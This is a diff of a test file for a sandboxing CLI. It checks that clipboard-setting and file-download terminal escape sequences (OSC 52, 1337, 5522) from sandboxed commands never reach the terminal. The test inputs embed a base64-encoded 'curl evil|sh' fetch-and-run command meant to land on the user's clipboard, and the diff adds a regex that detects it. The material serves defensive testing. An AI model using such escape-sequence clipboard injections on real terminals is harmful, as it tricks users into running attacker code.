@@ -153,7 +153,7 @@ test('--review --ask: after a run again without the sandbox, the sandboxed attem
   assert.deepEqual(fs.readdirSync(path.join(base, 'store')).filter((n) => n.startsWith('cs-')), [], 'nothing left pending')
 })
 
-test("a command's OSC 52 (set or ask for the host's clipboard) never reaches the terminal; other OSC strings do", () => {
+test("a command's OSC 52, 1337 and 5522 (the host's clipboard, iTerm2's downloads) never reach the terminal; other OSC strings do", () => {
   // Found by an attacker's review (mode35): a read-only run's printf '\033]52;c;<base64>\a' went to
   // the terminal as it was, and kitty, WezTerm, Alacritty, foot, Windows Terminal and tmux
   // (set-clipboard) put its text on the host's clipboard, for the user's next paste into a shell;
@@ -164,6 +164,9 @@ test("a command's OSC 52 (set or ask for the host's clipboard) never reaches the
     '\\302\\23552;c;Y3VybCBldmlsfHNo\\007', // 8-bit OSC as UTF-8 (U+009D)
     '\\033]5\\0012;c;Y3VybCBldmlsfHNo\\007', // a C0 inside the number (tmux skips it)
     '\\033]52;c;?\\007', // a query
+    '\\033]1337;Copy=:Y3VybCBldmlsfHNo\\007', // iTerm2's own clipboard copy
+    '\\033]1337;File=name=eA==;size=1;inline=0:eA==\\007', // iTerm2's download to ~/Downloads
+    '\\033]5522;type=write;Y3VybCBldmlsfHNo\\033\\\\', // kitty's clipboard protocol
   ]
   const fs = require('node:fs')
   const dir = fs.mkdtempSync(path.join(require('node:os').tmpdir(), 'ss-osc52-'))
@@ -172,7 +175,7 @@ test("a command's OSC 52 (set or ask for the host's clipboard) never reaches the
   for (const flags of ['', '--no-pty']) {
     const r = scriptRun(`"${process.execPath}" "${CLI}" ${flags} -- sh ${file}`)
     assert.equal(r.status, 0, ctx(r))
-    assert.doesNotMatch(r.stdout, /52;/, `${flags}: ${JSON.stringify(r.stdout)}`)
+    assert.doesNotMatch(r.stdout, /52;|1337;|5522;|Y3VybCBldmlsfHNo/, `${flags}: ${JSON.stringify(r.stdout)}`)
     assert.match(r.stdout, /A\x1b\]0;kept-title\x07B/, `${flags}: other OSC strings pass: ${JSON.stringify(r.stdout)}`)
     for (const c of ['C', 'D']) assert.ok(r.stdout.includes(c), `${flags}: ${c}: ${JSON.stringify(r.stdout)}`)
   }
